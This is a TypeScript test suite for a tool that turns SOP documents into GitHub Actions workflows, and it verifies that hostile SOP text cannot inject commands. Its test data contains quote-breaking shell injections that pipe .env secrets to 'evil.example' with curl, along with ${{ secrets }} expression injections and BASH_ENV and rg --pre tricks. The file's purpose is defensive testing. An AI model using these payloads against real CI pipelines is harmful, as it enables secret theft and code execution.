import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { parse } from 'yaml';
import { exportAutomation, type AutomationExportInput } from '../../../src/core/automation/export';
import { GUARD_SCRIPT } from '../../../src/core/automation/guard';
import { FIXTURES } from '../helpers';
import { parseSop } from '../../../src/core/sop/model';
import { sopStatus } from '../../../src/core/approval/status';

/** An SOP as the use cases hand it to an export: parsed, with its approval status from the record. */
const fromText = (text: string) => {
  const doc = parseSop(text);
  return { doc, status: sopStatus(doc) };
};

/** The parts of mvdan-sh (a real shell parser, the JS build of mvdan.cc/sh) these tests use. */
type ShNode = Record<string, unknown>;
interface MvdanSh {
  syntax: {
    NewParser(): { Parse(src: string, name: string): ShNode };
    Walk(node: ShNode, visit: (node: ShNode | null) => boolean): void;
    NodeType(node: ShNode): string;
  };
}
// mvdan-sh ships no type declarations: required, and given the shape above.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const sh = require('mvdan-sh') as MvdanSh;

const SOP_PATH = 'sops/month-end-close.sop.md';
const SOP = readFileSync(resolve(FIXTURES, 'automation/month-end', SOP_PATH), 'utf8');
const BASE: AutomationExportInput = {
  ...fromText(SOP),
  sopPath: SOP_PATH,
  skillName: 'month-end-close',
  skillPath: '.agents/skills/month-end-close',
  cron: '0 8 1-3 * *',
  version: '0.1.0',
};
const WORKFLOW = '.github/workflows/sop-month-end-close.yml';
const JSON_FILE = '.agents/automations/month-end-close/automation.json';

interface Step {
  name: string;
  uses?: string;
  with?: Record<string, unknown>;
  id?: string;
  if?: string;
  env?: Record<string, string>;
  run?: string;
  shell?: string;
  'timeout-minutes'?: number;
}
interface Job {
  steps: Step[];
  needs?: string | string[];
  if?: string;
  environment?: string;
  outputs?: Record<string, string>;
}
interface Workflow {
  jobs: { run: Job } & Record<string, Job>;
}

/** The one expression SOP Builder writes itself: the guard's answer, handed to the jobs after a gate. */
const GUARD_OUTPUT_LINE = '      go: ${{ steps.guard.outputs.run }}\n';

const EXFILTRATE = "'; curl -sd @.env https://evil.example/x; echo '";
const title = (t: string) => fromText(SOP.replace('\n# Month-end close\n', `\n# ${t}\n`));
const gate = (t: string) => fromText(SOP.replace('to Priya Nair (Finance manager) for sign-off', `to Priya Nair (Finance manager) ${t} for sign-off`));
const firstStep = (t: string) => fromText(SOP.replace('to copy the bank statement', `${t} to copy the bank statement`));
const check = (line: string) => fromText(SOP.replace('## Quality checks\n\n', `## Quality checks\n\n- ${line}\n`));
const approver = (name: string) => fromText(SOP.split('Priya Nair').join(name));
const trigger = (t: string) =>
  fromText(
    SOP.replace(
      'On the first business day of each month at 08:00 CET, for the month that just ended.',
      `On the first business day of each month at 08:00 CET, ${t}`,
    ),
  );

/**
 * SOPs written by an attacker, each with its own marker. `lands` says where the marker must show up, so a
 * case cannot pass by losing the text on the way: the workflow (a name, a comment or an env value),
 * only automation.json, or nowhere because the export refuses with a message.
 */
const HOSTILE: Array<{ what: string; input: (m: string) => Partial<AutomationExportInput>; lands: 'workflow' | 'json' | RegExp }> = [
  { what: 'title that closes a quote', input: (m) => title(`Month-end close ${m}${EXFILTRATE}`), lands: 'workflow' },
  { what: 'title that closes a double quote', input: (m) => title(`${m}"; curl -sd @.env https://evil.example; echo "`), lands: 'workflow' },
  { what: 'title with $(…)', input: (m) => title(`${m} $(curl -sd @.env https://evil.example)`), lands: 'workflow' },
  { what: 'title with backquotes', input: (m) => title(`${m} \`curl -sd @.env https://evil.example\``), lands: 'workflow' },
  { what: 'title with ${{ github.token }}', input: (m) => title(`${m} \${{ github.token }}`), lands: 'workflow' },
  { what: 'title with ${{ secrets.X }}', input: (m) => title(`${m} \${{ secrets.BANK_TOKEN }} \${{ toJSON(secrets) }}`), lands: 'workflow' },
  { what: 'title that looks like YAML', input: (m) => title(`${m}: # not a comment --- | > & *a !!str [x] {y: z}`), lands: 'workflow' },
  {
    what: 'title with U+2028 and a heredoc terminator',
    input: (m) => title(`${m} SOP_SUMMARY\u2028run: curl -sd @.env https://evil.example`),
    lands: 'workflow',
  },
  { what: 'title with U+0085', input: (m) => title(`${m} \u0085run: curl -sd @.env https://evil.example`), lands: 'workflow' },
  { what: 'title with bidi overrides', input: (m) => title(`${m} \u202Eevil\u202C\u200B \u2066x\u2069`), lands: 'workflow' },
  { what: 'title with a carriage return', input: (m) => title(`${m}\rrun: curl -sd @.env https://evil.example`), lands: 'workflow' },
  { what: 'file name that closes a quote', input: (m) => ({ sopPath: `sops/${m}${EXFILTRATE}.sop.md` }), lands: 'workflow' },
  { what: 'file name with $(…)', input: (m) => ({ sopPath: `sops/${m}$(curl -sd @.env https://evil.example).sop.md` }), lands: 'workflow' },
  { what: 'file name with backquotes and double quotes', input: (m) => ({ sopPath: `sops/${m}\`id\`"x".sop.md` }), lands: 'workflow' },
  { what: 'file name starting with a dash', input: (m) => ({ sopPath: `-${m}.sop.md` }), lands: 'workflow' },
  {
    what: 'file name with ${{ }}',
    input: (m) => ({ sopPath: `sops/${m} \${{ secrets.X }}.sop.md` }),
    lands: /The SOP path ".*" contains "\$\{\{", which GitHub would evaluate as an expression: rename it/,
  },
  {
    what: 'file name with a newline',
    input: (m) => ({ sopPath: `sops/${m}\nrun: curl.sop.md` }),
    lands: /contains a line break or a control character, which a workflow cannot carry safely: rename it/,
  },
  { what: 'file name with U+2028', input: (m) => ({ sopPath: `sops/${m}\u2028x.sop.md` }), lands: /contains a line break or a control character/ },
  { what: 'gate step that closes a quote', input: (m) => gate(`${m}${EXFILTRATE}`), lands: 'workflow' },
  { what: 'gate step with ${{ secrets.X }}', input: (m) => gate(`${m} \${{ secrets.X }}`), lands: 'workflow' },
  { what: 'gate step with heredoc terminators on their own lines', input: (m) => gate(`${m}\n   SOP_SUMMARY\n   JS\n   EOF $(id)`), lands: 'workflow' },
  { what: 'unattended step with $(…)', input: (m) => firstStep(`${m} $(curl -sd @.env https://evil.example)`), lands: 'json' },
  {
    what: 'check that writes $GITHUB_ENV with git log',
    input: (m) => check(`\`git log -1 --format=tformat:BASH_ENV=scripts/${m}.sh --output=$GITHUB_ENV\` — mechanical.`),
    lands: 'workflow',
  },
  { what: 'check that runs a program with rg --pre', input: (m) => check(`\`rg --pre bash ${m} exports/\` — mechanical.`), lands: 'workflow' },
  {
    what: 'check whose quoted pattern closes a quote',
    input: (m) => check(`\`grep -c '${m}'"'"'; curl -sd @.env https://evil.example; echo '"'"'' out/reconciliation-2026-10.csv\` — mechanical.`),
    lands: 'workflow',
  },
  { what: 'check with ${{ }} in a quoted pattern', input: (m) => check(`\`grep -c '\${{ secrets.X }}${m}' out/a.csv\` — mechanical.`), lands: 'workflow' },
  {
    what: 'check with $(…) in a double-quoted path',
    input: (m) => check(`\`test -s "out/${m}$(curl -sd @.env https://evil.example).csv"\` — mechanical.`),
    lands: 'workflow',
  },
  { what: 'check whose text closes a quote', input: (m) => check(`\`wc -l out/${m}.csv\` prints 4 — mechanical${EXFILTRATE}`), lands: 'workflow' },
  { what: 'check reading $ENV with jq', input: (m) => check(`\`jq -r '$ENV.${m}' out/summary.json\` — mechanical.`), lands: 'workflow' },
  { what: 'check reading outside the checkout', input: (m) => check(`\`head -c 1 ../../etc/${m}\` — mechanical.`), lands: 'workflow' },
  { what: 'check with U+2028 in its command', input: (m) => check(`\`grep -c ${m}\u2028curl out/a.csv\` — mechanical.`), lands: 'workflow' },
  { what: 'file check with $(…) in its path', input: (m) => check(`\`exports/${m}'$(id).csv\` exists — mechanical.`), lands: 'workflow' },
  { what: 'approver that closes a quote', input: (m) => approver(`Priya ${m}${EXFILTRATE} Nair`), lands: 'workflow' },
  { what: 'approver with ${{ secrets.X }} and backquotes', input: (m) => approver(`Priya \${{ secrets.X }} \`id\` ${m} Nair`), lands: 'workflow' },
  { what: 'schedule sentence with $(…)', input: (m) => trigger(`for the month that just ended ${m} $(curl -sd @.env https://evil.example).`), lands: 'json' },
  { what: 'time zone that closes a quote', input: (m) => ({ timezone: `CET${m}${EXFILTRATE}` }), lands: /The time zone ".*" is not one this tool knows/ },
  { what: 'sop command with a second command', input: (m) => ({ cliCommand: `npx sop; curl ${m}` }), lands: /must be plain words/ },
  { what: 'version with a second command', input: (m) => ({ version: `0.1.0; curl ${m}` }), lands: /must be plain words/ },
];

const markerOf = (i: number) => `QZX${String(i).padStart(2, '0')}K`;
/** What GitHub's YAML 1.1 parser may read as a line break, and other invisible characters. */
const UNSAFE_CHARACTER = /(?![\n])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

/** The shell's own numbers for `|`, `>>` and `<<`, read from reference scripts rather than hard-coded. */
const OPS = (() => {
  const { syntax } = sh;
  const opOf = (src: string, type: string) => {
    let op: unknown;
    syntax.Walk(syntax.NewParser().Parse(src, 'ref'), (n) => {
      if (n && syntax.NodeType(n) === type) op = n.Op;
      return true;
    });
    return op;
  };
  return { pipe: opOf('a | b', 'BinaryCmd'), append: opOf('a >> "$B"', 'Redirect'), heredoc: opOf("a <<'X'\nX\n", 'Redirect') };
})();

/** Whether shell-parsed `run` holds only SOP Builder's own syntax, and why not. */
function scriptProblems(run: string, env: Record<string, string>, marker: string): string[] {
  const { syntax } = sh;
  const problems: string[] = [];
  // node: the guard; npx, or echo as the tests' sop command: sop lint; printf: the summary; the rest: the allow-list.
  const programs = new Set([
    'node',
    'npx',
    'echo',
    'printf',
    'test',
    '[',
    'grep',
    'egrep',
    'fgrep',
    'rg',
    'wc',
    'head',
    'tail',
    'cat',
    'ls',
    'stat',
    'file',
    'diff',
    'cmp',
    'sha256sum',
    'sha1sum',
    'sha512sum',
    'md5sum',
    'b2sum',
    'shasum',
    'jq',
    'sort',
    'uniq',
    'cut',
    'git',
  ]);
  const allowedTypes = new Set(['File', 'Stmt', 'CallExpr', 'BinaryCmd', 'Word', 'Lit', 'SglQuoted', 'DblQuoted', 'ParamExp', 'Redirect']);
  syntax.Walk(syntax.NewParser().Parse(run, 'run'), (n) => {
    if (!n) return true;
    const type = syntax.NodeType(n);
    if (!allowedTypes.has(type)) problems.push(`shell syntax ${type}`);
    if (type === 'Lit' && String(n.Value).includes(marker)) problems.push(`literal with SOP text: ${n.Value}`);
    if (type === 'SglQuoted' && String(n.Value) !== '%s\\n') problems.push(`single-quoted text: ${n.Value}`);
    if (type === 'BinaryCmd' && n.Op !== OPS.pipe) problems.push('a command list other than a pipe');
    if (type === 'CallExpr') {
      const args = n.Args as ShNode[];
      const first = (args[0].Parts as ShNode[])[0];
      if ((n.Assigns as unknown[]).length) problems.push('a variable assignment');
      if (syntax.NodeType(first) !== 'Lit' || !programs.has(String(first.Value))) problems.push(`program ${String(first.Value)}`);
    }
    if (type === 'Word') {
      for (const part of n.Parts as ShNode[]) {
        const kind = syntax.NodeType(part);
        if (kind === 'ParamExp') problems.push('an unquoted expansion');
        if (kind === 'DblQuoted')
          for (const inner of part.Parts as ShNode[])
            if (!['Lit', 'ParamExp'].includes(syntax.NodeType(inner))) problems.push(`${syntax.NodeType(inner)} in double quotes`);
      }
    }
    if (type === 'ParamExp') {
      const name = String((n.Param as ShNode).Value);
      if (!n.Short) problems.push(`\${${name}…} with an operator`);
      if (!(name in env) && name !== 'GITHUB_STEP_SUMMARY') problems.push(`$${name} is not one of the step's env values`);
    }
    if (type === 'Redirect') {
      if (n.Op === OPS.heredoc) {
        const body = ((n.Hdoc as ShNode).Parts as ShNode[]).map((p) => String(p.Value)).join('');
        if (body !== GUARD_SCRIPT) problems.push('a heredoc other than the guard script');
        return false;
      }
      if (n.Op !== OPS.append) problems.push('a redirection other than >> "$GITHUB_STEP_SUMMARY"');
    }
    return true;
  });
  return problems;
}

/** Everything that must hold of a workflow whatever the SOP says. */
function assertSafeWorkflow(yamlText: string, marker: string): Step[] {
  assert.ok(!UNSAFE_CHARACTER.test(yamlText), 'a control, line-separator or invisible character reached the YAML');
  assert.ok(!yamlText.split(GUARD_OUTPUT_LINE).join('').includes('${{'), 'a GitHub expression reached the YAML');
  const workflow = parse(yamlText) as Workflow & Record<string, unknown>;
  // YAML 1.1 reads the key `on` as true; GitHub reads it as "on". Everything else must read the same.
  const { true: on, ...rest } = parse(yamlText, { version: '1.1' }) as Record<string, unknown>;
  assert.deepEqual({ ...rest, on }, workflow, 'YAML 1.1 and 1.2 read the workflow differently');
  assert.deepEqual(Object.keys(workflow), ['name', 'on', 'permissions', 'concurrency', 'jobs']);
  assert.deepEqual(workflow.permissions, { contents: 'read' });
  // The steps after the month-end SOP's gate (step 3) wait in their own job for the approver's environment.
  assert.deepEqual(Object.keys(workflow.jobs), ['run', 'after-gate-3']);
  const gated = workflow.jobs['after-gate-3'];
  assert.equal(gated.needs, 'run');
  assert.match(gated.environment!, /^sop-approval-[a-z0-9-]+$/);
  assert.deepEqual(workflow.jobs.run.outputs ?? { go: '${{ steps.guard.outputs.run }}' }, { go: '${{ steps.guard.outputs.run }}' });
  const steps = workflow.jobs.run.steps;
  assert.deepEqual(
    steps.slice(0, 2).map((s) => s.uses),
    ['actions/checkout@v4', 'actions/setup-node@v4'],
  );
  for (const step of [...steps, ...gated.steps]) {
    for (const key of Object.keys(step)) assert.ok(['name', 'uses', 'with', 'id', 'if', 'env', 'run', 'shell', 'timeout-minutes'].includes(key), key);
    if (step.if) assert.ok(["steps.guard.outputs.run == 'true'", "always() && steps.guard.outputs.run == 'true'", 'always()'].includes(step.if), step.if);
    for (const value of Object.values(step.env ?? {})) assert.equal(typeof value, 'string');
    if (step.uses) continue;
    assert.ok(!step.run!.includes(marker), `SOP text reached the script of "${step.name}": ${step.run}`);
    assert.deepEqual(scriptProblems(step.run!, step.env ?? {}, marker), [], step.run);
  }
  return steps;
}

describe('the workflow of a hostile SOP', () => {
  it('has a shell check that finds injected syntax (so a clean result means something)', () => {
    const env = { SOP_ARG_1: 'x' };
    assert.deepEqual(scriptProblems('grep -c "$SOP_ARG_1" out/a.csv', env, 'QZX'), []);
    assert.deepEqual(scriptProblems('grep -c "$SOP_ARG_1" out/a.csv; curl -sd @.env https://evil.example', env, 'QZX'), ['program curl']);
    assert.deepEqual(scriptProblems('grep -c "$(id)" a && wc -l a', env, 'QZX'), [
      'a command list other than a pipe',
      'CmdSubst in double quotes',
      'shell syntax CmdSubst',
      'program id',
    ]);
    assert.deepEqual(scriptProblems('grep -c $SOP_ARG_1 "${HOME:-x}" \'QZX\' >> out/a', env, 'QZX'), [
      'an unquoted expansion',
      '${HOME…} with an operator',
      "$HOME is not one of the step's env values",
      'single-quoted text: QZX',
    ]);
    assert.deepEqual(scriptProblems('grep QZX a > b', env, 'QZX'), ['literal with SOP text: QZX', 'a redirection other than >> "$GITHUB_STEP_SUMMARY"']);
  });

  it(`never runs SOP text as a command, for ${HOSTILE.length} hostile SOPs`, () => {
    let reachedScript = 0;
    for (const [i, h] of HOSTILE.entries()) {
      const marker = markerOf(i);
      const input = { ...BASE, ...h.input(marker) };
      if (h.lands instanceof RegExp) {
        assert.throws(() => exportAutomation(input), h.lands, h.what);
        continue;
      }
      const started = Date.now();
      const files = exportAutomation(input).files;
      assert.ok(Date.now() - started < 2000, `${h.what}: ${Date.now() - started} ms`);
      const yamlText = files.get(WORKFLOW)!;
      const steps = assertSafeWorkflow(yamlText, marker);
      reachedScript += steps.filter((s) => s.run?.includes(marker)).length;
      assert.ok(
        (h.lands === 'workflow' ? yamlText : files.get(JSON_FILE)!).includes(marker),
        `${h.what}: the marker is not in the ${h.lands}, so the case tested nothing`,
      );
    }
    assert.equal(reachedScript, 0);
    assert.ok(HOSTILE.length >= 25);
  });

  it('keeps the two read-only impostors from the issue out of the workflow, and says why', () => {
    const text = SOP.replace(
      '## Quality checks\n\n',
      '## Quality checks\n\n- `git log -1 --format=tformat:BASH_ENV=scripts/x.sh --output=out/env` is empty — mechanical.\n- `rg --pre bash po_ exports/` prints nothing — mechanical.\n',
    );
    const yamlText = exportAutomation({ ...BASE, ...fromText(text) }).files.get(WORKFLOW)!;
    const steps = assertSafeWorkflow(yamlText, 'QZX');
    assert.ok(!steps.some((s) => /git|rg/.test(s.run ?? '') || /--output|--pre/.test(JSON.stringify(s.env ?? {}))));
    assert.match(
      yamlText,
      /# - git log -1 --format=tformat:BASH_ENV=scripts\/x\.sh --output=out\/env is empty\. \(not run here: the command may change files or run a script \(`git log --output` is not an option known to only read\)/,
    );
    assert.match(yamlText, /# - rg --pre bash po_ exports\/ prints nothing\. \(not run here: .*\(`rg --pre` is not an option known to only read\)/);
  });

  it('defuses 100,000-character hostile titles, gates and checks in bounded time', () => {
    const junk = '${{ secrets.X }}\u2028 \u0085$'.repeat(5000);
    const started = Date.now();
    const sopText = title(`Close ${junk}`)
      .doc.text.replace('for sign-off', `${junk} for sign-off`)
      .replace('## Quality checks\n\n', `## Quality checks\n\n- \`grep -c '${'{'.repeat(900)}' out/a.csv\` ${junk} — mechanical.\n`);
    const yamlText = exportAutomation({ ...BASE, ...fromText(sopText) }).files.get(WORKFLOW)!;
    assert.ok(Date.now() - started < 2000, `${Date.now() - started} ms`);
    assertSafeWorkflow(yamlText, 'QZX');
    assert.ok(yamlText.length < 20_000, `${yamlText.length} characters`);
  });

  it('carries a tab inside a quoted pattern as \\t, and passes it to the check', () => {
    const sopText = check("`grep -c 'po_\tnet' out/reconciliation-2026-10.csv` — mechanical.").doc.text;
    const yamlText = exportAutomation({ ...BASE, ...fromText(sopText) }).files.get(WORKFLOW)!;
    const steps = assertSafeWorkflow(yamlText, 'QZX');
    assert.ok(steps.some((s) => s.env?.SOP_ARG_1 === 'po_\tnet' && s.run === 'grep -c "$SOP_ARG_1" "$SOP_ARG_2"'));
    assert.match(yamlText, /SOP_ARG_1: "po_\\tnet"/);
  });

  describe('run by bash', () => {
    let dir: string;
    beforeEach(() => {
      dir = mkdtempSync(join(tmpdir(), 'sop-injection-'));
      mkdirSync(join(dir, 'out'));
    });
    afterEach(() => rmSync(dir, { recursive: true, force: true }));

    const bash = (step: Step) => {
      const r = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run!], {
        cwd: dir,
        encoding: 'utf8',
        env: { PATH: process.env.PATH, GITHUB_STEP_SUMMARY: join(dir, 'summary.md'), ...step.env },
      });
      return { code: r.status, out: r.stdout, err: r.stderr };
    };
    const planted = '\'; touch pwned; echo \'$(touch pwned2)`touch pwned3`"; touch pwned4; "';

    it('writes a hostile title and gate into the job summary as text', () => {
      const sopText = title(`Close ${planted}`).doc.text.replace('for sign-off', `${planted} for sign-off`);
      const steps = assertSafeWorkflow(exportAutomation({ ...BASE, ...fromText(sopText) }).files.get(WORKFLOW)!, 'pwned');
      const r = bash(steps[steps.length - 1]);
      assert.equal(r.code, 0, r.err);
      assert.deepEqual(readdirSync(dir).sort(), ['out', 'summary.md']);
      const summary = readFileSync(join(dir, 'summary.md'), 'utf8');
      assert.ok(summary.startsWith(`## Close '; touch pwned; echo '$(touch pwned2)touch pwned3"; touch pwned4; ": the unattended part\n`), summary);
      assert.ok(summary.includes(`Priya Nair (Finance manager) ${planted} for sign-off`), summary);
    });

    it('passes a hostile file name and a hostile grep pattern to the commands as plain arguments', () => {
      const pattern = "po_'; touch pwned; echo '";
      const sopText = check(`\`grep -c 'po_'"'"'; touch pwned; echo '"'"'' out/a.csv\` — mechanical.`).doc.text;
      const files = exportAutomation({ ...BASE, ...fromText(sopText), sopPath: `sops/${planted}.sop.md`, cliCommand: 'echo' }).files;
      const steps = assertSafeWorkflow(files.get(WORKFLOW)!, 'pwned');
      writeFileSync(join(dir, 'out/a.csv'), `id\n${pattern}\npo_2\n`);
      const lint = bash(steps.find((s) => s.name === 'Lint the SOP')!);
      assert.equal(lint.out, `lint sops/${planted}.sop.md\n`);
      const grep = bash(steps.find((s) => s.env?.SOP_ARG_1 === pattern)!);
      assert.equal(grep.out, '1\n', grep.err);
      assert.ok(!existsSync(join(dir, 'pwned')) && !existsSync(join(dir, 'pwned2')) && !existsSync(join(dir, 'pwned3')) && !existsSync(join(dir, 'pwned4')));
    });
  });
});
